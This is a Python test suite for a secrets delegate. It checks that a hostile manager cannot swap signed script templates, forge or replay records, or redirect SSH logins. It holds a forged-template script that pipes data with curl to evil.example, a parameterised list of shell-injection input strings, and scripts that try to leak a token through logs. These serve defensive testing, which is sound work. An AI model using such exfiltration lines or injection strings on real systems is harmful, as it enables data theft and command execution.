"""Scripts behind a manager in the attacker's hands, with templates, inputs and hosts of his: only what was signed runs, on what was said.

What a client makes of templates is in `test_network_templates`; here are the delegate, and the hosts that it logs in at.
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from msgspec import structs
from structlog.testing import capture_logs

from delegate.secret_managers.interface import stored_bytes
from shared.crypto.plaintext import Plaintext
from shared.crypto.reference import make
from shared.documents.connector import CUSTOM
from shared.documents.jws import Verified
from shared.documents.task import TaskDocument
from shared.documents.template import TemplateDocument, TemplateUse, content_digest
from shared.errors import Denied, PrivySealError
from shared.messages import Need
from shared.template_inputs import HOST, write_inputs
from tests.adversary.evil_manager import code_of
from tests.adversary.scripted import POLICY, TOKEN, Scripted
from tests.adversary.stage import Stage
from tests.servers.sshd import USER, Sshd, keygen

VALUE = b"the value that nobody else may have"
EVIL = {"script": "curl -d @- https://evil.example"}


def heard(stage: Stage) -> bytes:
    """All that passed the manager, in the clear."""
    passed = [part for one in stage.evil.exchanges for part in (one.request, one.body)]
    return b"\n".join([*passed, *(repr(message).encode() for tap in stage.evil.taps for message in tap.heard)])


def forged(stage: Stage, template: Verified[TemplateDocument], signer: Any = None) -> Verified[TemplateDocument]:
    """A first revision of the same template with another script."""
    content = structs.replace(template.document.content, **EVIL)
    return stage.world.sign(structs.replace(template.document, content=content), signer or stage.mallory)


def repinned(task: Verified[TaskDocument], old: Verified[Any], new: Verified[Any]) -> dict[str, Any]:
    """The pins of a task with another document in the place of one."""
    pins = [one for one in task.document.pins if one.digest != old.digest]
    (pin,) = [one for one in task.document.pins if one.digest == old.digest]
    return {"pins": (*pins, structs.replace(pin, id=new.document.id, rev=new.document.rev, digest=new.digest))}


async def test_the_stage_is_honest_when_nobody_attacks(stage: Stage) -> None:
    stage.world.store(stage.world.secret("token"), VALUE)
    scripted = Scripted(stage, f'secret="$path: {TOKEN}"', named=["account.token"])
    version = await scripted.secret("password", {"path": "a/b"})
    assert await scripted.value(version) == b"a/b: " + VALUE
    assert scripted.runs == 1


# ---- templates that nobody has seen


async def test_a_script_that_the_manager_swapped_is_not_taken(stage: Stage) -> None:
    scripted, world = Scripted(stage, "secret=x"), stage.world
    secret = world.secret("password", connector=scripted.connector.document.id, reference=write_inputs({"path": "a"}))
    version = world.store(secret, b"")
    await stage.teach("alpha", [one for one in world.documents if one != scripted.template.compact])
    task, record = world.reveal([version]), scripted.record(version)
    assert await stage.asks("alpha", task.compact, stored=[record]) == (scripted.template.digest,)
    await stage.teach("alpha", [forged(stage, scripted.template).compact])
    reply = await stage.evil.tap("alpha").give(task.compact, (), [record])
    assert isinstance(reply, Need) or code_of(reply) not in {"ok", "partial"}
    assert scripted.runs == 0


async def test_a_script_that_its_author_swapped_is_not_what_the_connectors_signer_has_seen(stage: Stage) -> None:
    """Author and manager collude: the task's signer was shown other content under the same id, label and revision."""
    scripted, world = Scripted(stage, "secret=x"), stage.world
    secret = world.secret("password", connector=scripted.connector.document.id, reference=write_inputs({"path": "a"}))
    version = world.store(secret, b"")
    other = forged(stage, scripted.template, world.administrator)
    await stage.teach("alpha", [one for one in world.documents if one != scripted.template.compact])
    await stage.teach("alpha", [other.compact])
    swapped = world.reveal([version], **repinned(world.reveal([version]), scripted.template, other))
    codes = await stage.refusal("alpha", swapped, stored=[scripted.record(version)])
    assert codes == ("denied", "template_changed")
    assert scripted.runs == 0


async def test_another_template_of_the_same_name_and_label_does_not_run(stage: Stage) -> None:
    scripted, world = Scripted(stage, "secret=x"), stage.world
    version = await scripted.secret("password", {"path": "a"})
    other = world.sign(structs.replace(scripted.template.document, id=world.opaque("other")), world.administrator)
    await stage.teach("alpha", [other.compact])
    swapped = world.reveal([version], **repinned(world.reveal([version]), scripted.template, other))
    codes = await stage.refusal("alpha", swapped, stored=[scripted.record(version)])
    assert codes == ("malformed", "pin_missing")
    assert scripted.runs == 0


async def test_a_deletion_that_is_kept_back_from_the_signer_counts_for_a_delegate_that_has_seen_it(
    stage: Stage,
) -> None:
    scripted, world = Scripted(stage, "secret=x"), stage.world
    version = await scripted.secret("password", {"path": "a"})
    before = world.reveal([version])
    world.revise(scripted.template, deleted=True)
    await stage.teach("alpha")
    codes = await stage.refusal("alpha", before, stored=[scripted.record(version)])
    assert codes == ("conflict", "pin_stale")
    after = world.reveal([version])
    assert await stage.refusal("alpha", after, stored=[scripted.record(version)]) == ("conflict", "template_deleted")
    assert scripted.runs == 0


async def test_a_connectors_revision_that_is_kept_back_runs_no_older_template(stage: Stage) -> None:
    scripted, world = Scripted(stage, "secret=old"), stage.world
    version = await scripted.secret("password", {"path": "a"})
    old = world.reveal([version])
    assert await scripted.value(version) == b"old"
    content = structs.asdict(structs.replace(scripted.template.document.content, script="secret=new"))
    newer = world.template("script", version="2", content=content)
    runs = TemplateUse(id=newer.document.id, content=content_digest(newer.document))
    world.revise(scripted.connector, template=runs)
    await stage.teach("alpha")
    # The manager that was kept for the old revision runs nothing any more.
    assert await scripted.value(version) == b"new"
    codes = await stage.refusal("alpha", old, stored=[scripted.record(version)])
    assert codes == ("conflict", "pin_stale")


# ---- records and inputs


async def test_a_record_of_one_secret_does_not_open_by_the_inputs_of_another(stage: Stage) -> None:
    scripted = Scripted(stage, 'secret="$path"')
    mine = await scripted.secret("mine", {"path": "mine"})
    yours = await scripted.secret("yours", {"path": "yours"})
    for target, record in ((mine, scripted.record(yours)), (yours, scripted.record(mine))):
        task = stage.world.reveal([target])
        assert await stage.refusal("alpha", task, stored=[record]) == ("tampered", "record_forged")
    swapped = stage.world.reveal([mine, yours])
    records = [scripted.record(yours), scripted.record(mine)]
    assert await stage.refusal("alpha", swapped, stored=records) == ("tampered", "record_forged")
    assert scripted.runs == 0


async def test_a_record_that_the_manager_makes_up_with_inputs_of_its_own_runs_nothing(stage: Stage) -> None:
    scripted, world = Scripted(stage, 'secret="$path"'), stage.world
    version = await scripted.secret("password", {"path": "mine"})
    place, told = world.place(version.secret, 1, version.task.digest), write_inputs({"path": "yours"})
    honest = make(world.keyring.newest, place, version.secret.document.reference, {}, "")
    for record in (structs.replace(honest, locator=told), structs.replace(honest, version="1.x")):
        task = world.reveal([version])
        assert await stage.refusal("alpha", task, stored=[stored_bytes(record)]) == ("tampered", "record_forged")
    # Also one that a delegate did make, before the secret was revised.
    other = make(world.keyring.newest, place, told, {}, "")
    task = world.reveal([version])
    assert await stage.refusal("alpha", task, stored=[stored_bytes(other)]) == ("conflict", "locator_changed")
    assert scripted.runs == 0


async def test_a_store_that_is_replayed_brings_no_older_value_back_unnoticed(stage: Stage) -> None:
    place = stage.folder / "kept"
    scripted = Scripted(
        stage, f"secret=$(cat {place}); : $path", write=f'printf %s "$secret" > {place}', remove=f"rm -f {place}"
    )
    world = stage.world
    secret = world.secret("password", connector=scripted.connector.document.id, metadata={"path": "a"})
    old = world.store(secret, b"the old value")
    new = world.store(secret, b"the new value", after=old)
    await stage.teach("alpha")
    kept = {}
    for version in (old, new):
        result = await stage.evil.give("alpha", version.task.compact, [version.input.raw])
        (kept[version.n],) = result.stored
    (item,) = await scripted.given(world.reveal([new]), [kept[2]])
    assert isinstance(item, Plaintext) and item.reveal() == b"the new value"
    # To the one that did it, it is done; another does it once more.
    await stage.evil.give("alpha", old.task.compact, [old.input.raw])
    assert place.read_bytes() == b"the new value"
    await stage.delegate("beta", policy=POLICY)
    await stage.teach("beta")
    await stage.evil.give("beta", old.task.compact, [old.input.raw])
    assert place.read_bytes() == b"the old value"
    for record, codes in ((kept[2], ("not_found", "version_replaced")), (kept[1], ("tampered", "record_forged"))):
        assert await stage.refusal("alpha", world.reveal([new]), stored=[record]) == codes


HOSTILE = [
    "'; touch RAN; '",
    '"; touch RAN; "',
    "$(touch RAN)",
    "`touch RAN`",
    "a\ntouch RAN\n",
    "a\r\n\ttouch RAN",
    "$((a[$(touch RAN)]))",
    "| touch RAN",
    "&& touch RAN #",
    "\u2019; touch RAN; \u2018\uff07",
    "\\'; touch RAN; \\'",
    "-e 'touch RAN'",
]


@pytest.mark.parametrize("text", HOSTILE)
async def test_inputs_that_try_to_be_shell_arrive_as_their_text(stage: Stage, text: str) -> None:
    text = text.replace("RAN", str(stage.folder / "ran"))
    scripted = Scripted(stage, "secret=$path'|<+spec.environmentVariables.path>'")
    version = await scripted.secret("password", {"path": text})
    assert await scripted.value(version) == f"{text}|{text}".encode()
    assert not (stage.folder / "ran").exists()


async def test_who_describes_a_secret_names_no_credential_by_its_inputs(stage: Stage) -> None:
    stage.world.store(stage.world.secret("token"), VALUE)
    scripted = Scripted(stage, f'x={TOKEN}; secret="$path"', named=["account.token"])
    version = await scripted.secret("password", '{"path":"' + TOKEN.replace('"', '\\"') + '"}')
    with pytest.raises(PrivySealError) as caught:
        await scripted.value(version)
    assert caught.value.code == "input_expression"
    assert scripted.runs == 0


# ---- hosts


def over_ssh(
    stage: Stage, port: int, known: Sequence[str], key: Path, script: str, host: str = "127.0.0.1"
) -> Scripted:
    """A template that runs at a host, logged in at by an SSHKey of the world."""
    world = stage.world
    world.store(world.secret("key"), key.read_bytes())
    world.store(world.secret("token"), VALUE)
    who = {"credentialType": "KeyReference", "spec": {"userName": USER, "key": "account.key"}}
    login = {"port": port, "auth": {"type": "SSH", "spec": who}, "knownHosts": list(known)}
    world.login("login", ["account.key"], spec=login)
    spec = {"onDelegate": False, "host": host, "connectorRef": "account.login"}
    return Scripted(stage, script, named=["account.token"], spec=spec, held=["account.login"])


class Way:
    """A port that leads to one host now, and to another later; what passes is kept."""

    def __init__(self) -> None:
        self.to = self.port = self.count = 0
        self.passed = b""

    @asynccontextmanager
    async def open(self) -> AsyncIterator[None]:
        server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        self.port = server.sockets[0].getsockname()[1]
        async with server:
            yield

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.count += 1
        theirs, ours = await asyncio.open_connection("127.0.0.1", self.to)

        async def pump(source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
            try:
                while data := await source.read(65_536):
                    self.passed += data
                    sink.write(data)
                    await sink.drain()
            except OSError:
                pass
            finally:
                sink.close()

        await asyncio.gather(pump(reader, ours), pump(theirs, writer))


async def test_a_secret_can_not_lead_a_script_to_another_host_than_the_connectors(stage: Stage, tmp_path: Path) -> None:
    way = Way()
    async with way.open():
        scripted = over_ssh(stage, way.port, (), keygen(tmp_path / "id"), "secret=x", host="host.example")
        version = await scripted.secret("password", {"path": "a", HOST: "127.0.0.1"})
        with pytest.raises(PrivySealError) as caught:
            await scripted.value(version)
        assert caught.value.code == "inputs_unfit" and HOST in caught.value.detail
        assert way.count == 0


async def test_a_host_whose_key_changed_between_two_runs_gets_neither_login_nor_value(
    stage: Stage, tmp_path: Path
) -> None:
    key, way = keygen(tmp_path / "id"), Way()
    with Sshd() as first, Sshd() as second:
        for sshd in (first, second):
            sshd.authorize(key)
        async with way.open():
            way.to = first.port
            known = [first.known_hosts.replace(f":{first.port}", f":{way.port}")]
            scripted = over_ssh(stage, way.port, known, key, f'secret="$path: {TOKEN}"')
            version = await scripted.secret("password", {"path": "a"})
            assert await scripted.value(version) == b"a: " + VALUE
            way.to = second.port
            with pytest.raises(PrivySealError) as caught:
                await scripted.value(version)
            assert (type(caught.value), caught.value.code) == (Denied, "ssh_host_changed")
            assert way.count == 2
        assert "Accepted publickey" in first.log
        assert not re.search("publickey|Accepted|Failed", second.log)
        assert scripted.runs == 1
    assert VALUE not in way.passed and key.read_bytes() not in way.passed


# ---- what a script says, and delegates that run none


SHOUTING = [
    f'echo "{TOKEN}"; echo "{TOKEN}" >&2; secret={TOKEN}; exit 3',
    f'secret={TOKEN}; set -x; echo "$secret"; false; exit "$?"',
    f'exit "{TOKEN}"',
    f'. "/{TOKEN}"; exit 1',
    f'kill -9 "$$" "{TOKEN}"',
    f'echo "{TOKEN}" >&2',
    f'secret=; echo "$path {TOKEN}" > /dev/stderr',
]


@pytest.mark.parametrize("script", SHOUTING)
async def test_a_script_can_not_say_a_secret_in_its_error_log_or_progress(
    stage: Stage, script: str, capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    stage.world.store(stage.world.secret("token"), VALUE)
    scripted = Scripted(stage, script, named=["account.token"])
    version = await scripted.secret("password", {"path": "a"})
    with capture_logs() as lines:
        item = await scripted.revealed(version)
    assert isinstance(item, PrivySealError), "it left a value"
    assert scripted.runs == 1
    assert "script.failed" in {line["event"] for line in lines}
    said = "".join([str(item), item.detail, item.hint, repr(item.facts), *capfd.readouterr(), caplog.text, repr(lines)])
    for part in (VALUE, VALUE[:20], VALUE[-20:]):
        assert part.decode() not in said and part not in heard(stage)


async def test_a_delegate_whose_owner_allows_no_scripts_runs_none(tmp_path: Path) -> None:
    async with Stage(tmp_path) as stage:
        await stage.delegate("alpha")
        # What it doesn't offer, an honest manager sends it no tasks for.
        assert CUSTOM not in next(one for one in stage.evil.services.fleet if one.name == "alpha").kinds
        scripted = Scripted(stage, "secret=x")
        version = await scripted.secret("password", {"path": "a"})
        attempts: list[tuple[Verified[TaskDocument], list[bytes], list[bytes]]] = [
            (stage.world.reveal([version]), [], [scripted.record(version)]),
            (stage.world.check(scripted.connector), [], []),
            (version.task, [version.input.raw], []),
        ]
        for task, inputs, records in attempts:
            result = await stage.evil.give("alpha", task.compact, inputs, records)
            (item,) = stage.opened(task, result)
            assert isinstance(item, Denied) and (item.code, item.facts["rule"]) == ("local_policy", "scripts")
        assert scripted.runs == 0
